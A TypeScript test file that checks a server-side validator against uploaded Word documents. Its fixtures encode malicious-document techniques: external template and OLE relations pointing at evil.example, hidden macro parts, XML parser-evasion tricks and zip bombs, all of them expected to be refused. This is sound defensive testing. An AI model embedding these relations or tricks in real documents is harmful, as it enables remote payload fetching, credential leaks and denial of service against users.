import { expect, test } from "vitest";
import { isHarmlessWordPackage } from "#leads/server/attachments/word-package.ts";
import { sampleFile, zip } from "./sample-files.ts";

const kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A Word document whose settings have one relation. */
function createDocumentWith(kind: string, target: string, part = "word/_rels/settings.xml.rels") {
  const text = `<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="${kinds}/${kind}" Target="${target}" TargetMode="External"/></Relationships>`;
  return zip([
    { name: "[Content_Types].xml" },
    { name: "word/document.xml" },
    { name: part, text },
  ]);
}

test.each([
  ["attachedTemplate", "https://evil.example/t.dotm"],
  ["attachedTemplate", "\\\\evil.example\\share\\t.dotm"],
  ["attachedTemplate", "file://evil.example/share/t.dotm"],
  ["oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"],
  ["frame", "http://evil.example/frame.html"],
])(
  "Q-25 a Word document that fetches a %s from %s is refused by the server",
  async (kind, target) => {
    expect(await isHarmlessWordPackage(createDocumentWith(kind, target))).toBe(false);
    expect(
      await isHarmlessWordPackage(createDocumentWith(kind, target, "word/_rels/document.xml.rels")),
    ).toBe(false);
  },
);

test.each([
  ["attachedTemplate", "file:///C:\\Users\\Mona\\Templates\\Normal.dotm"],
  ["attachedTemplate", "C:\\Users\\Mona\\Normal.dotm"],
  ["hyperlink", "https://ro2ya.example/"],
  ["image", "https://ro2ya.example/logo.png"],
])("Q-23 a Word document with a %s at %s is accepted", async (kind, target) => {
  expect(await isHarmlessWordPackage(createDocumentWith(kind, target))).toBe(true);
});

test("Q-23 a plain Word document is harmless", async () => {
  expect(await isHarmlessWordPackage(sampleFile("docx"))).toBe(true);
});

test("Q-25 relations that cannot be unpacked, or unpack to megabytes, count as bad", async () => {
  const broken = createDocumentWith("hyperlink", "https://ro2ya.example/");
  const at =
    Buffer.from(broken).indexOf("word/_rels/settings.xml.rels") +
    "word/_rels/settings.xml.rels".length;
  broken.fill(0xff, at, at + 20);
  expect(await isHarmlessWordPackage(broken)).toBe(false);
  expect(
    await isHarmlessWordPackage(
      createDocumentWith("hyperlink", `https://ro2ya.example/${"x".repeat(2_000_000)}`),
    ),
  ).toBe(false);
});

const createDocument = (parts: Parameters<typeof zip>[0]) =>
  zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
const createRelation = (attributes: string) => [
  {
    name: "word/_rels/document.xml.rels",
    text: `<Relationships><Relationship ${attributes}/></Relationships>`,
  },
];

test.each([
  [
    "its relation names macros under another file name",
    createDocument(
      createRelation(
        `Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="notes.bin"`,
      ),
    ),
  ],
  [
    "its list of types names macros",
    zip([
      {
        name: "[Content_Types].xml",
        text: `<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`,
      },
      { name: "word/document.xml" },
    ]),
  ],
  [
    "the relation hides behind a > in its target",
    createDocument(
      createRelation(
        `Target="http://evil.example/?a>b" Type="${kinds}/attachedTemplate" TargetMode="External"`,
      ),
    ),
  ],
  [
    "the relation hides behind character references",
    createDocument(
      createRelation(
        `Target="http://evil.example/" Type="${kinds}/attached&#84;emplate" TargetMode="Ext&#x65;rnal"`,
      ),
    ),
  ],
  [
    "the relation stands under a prefix",
    createDocument([
      {
        name: "word/_rels/document.xml.rels",
        text: `<r:Relationships xmlns:r="x"><r:Relationship Target="http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External"/></r:Relationships>`,
      },
    ]),
  ],
  [
    "the relations stand beside a part in another folder",
    createDocument([
      {
        name: "elsewhere/_rels/main.xml.rels",
        text: `<Relationship Target="http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External"/>`,
      },
    ]),
  ],
  [
    "a reference for a quotation mark seems to end its target",
    createDocument(
      createRelation(
        `Target="&#34; a='http://evil.example/" Type="${kinds}/attachedTemplate" TargetMode="External" b='x'`,
      ),
    ),
  ],
  [
    "another type stands within its target",
    createDocument(
      createRelation(
        `Target="http://evil.example/ Type='hyperlink'" Type="${kinds}/attachedTemplate" TargetMode="External"`,
      ),
    ),
  ],
  [
    "a relation does not end",
    createDocument([
      {
        name: "word/_rels/document.xml.rels",
        text: `<Relationships><Relationship Type="x" Target="y`,
      },
    ]),
  ],
  [
    "the relations define entities",
    createDocument([
      {
        name: "word/_rels/document.xml.rels",
        text: `<!DOCTYPE r [<!ENTITY e "External">]><Relationships/>`,
      },
    ]),
  ],
  [
    "a part unpacks to more than its directory says",
    createDocument([
      { name: "word/media/picture.bin", text: "x".repeat(100_000), unpackedBytes: 10 },
    ]),
  ],
  [
    "a part unpacks to less than its directory says",
    createDocument([
      { name: "word/media/picture.bin", text: "x".repeat(10), unpackedBytes: 100_000 },
    ]),
  ],
])("Q-25 a Word document is refused where %s", async (_where, bytes) => {
  expect(await isHarmlessWordPackage(bytes)).toBe(false);
});

test("Q-25 a bomb of which the directory says little is left at its first byte too many", async () => {
  const bomb = createDocument([
    { name: "word/media/picture.bin", text: "\0".repeat(50_000_000), unpackedBytes: 10 },
  ]);
  expect(bomb.length).toBeLessThan(100_000);
  expect(await isHarmlessWordPackage(bomb)).toBe(false);
});

test("Q-25 a hundred thousand relations that do not end are refused at the first", async () => {
  const bytes = createDocument([
    { name: "word/_rels/document.xml.rels", text: "<Relationship ".repeat(70_000) },
  ]);
  const before = process.threadCpuUsage();
  expect(await isHarmlessWordPackage(bytes)).toBe(false);
  const { user, system } = process.threadCpuUsage(before);
  expect((user + system) / 1000).toBeLessThan(1_000);
});
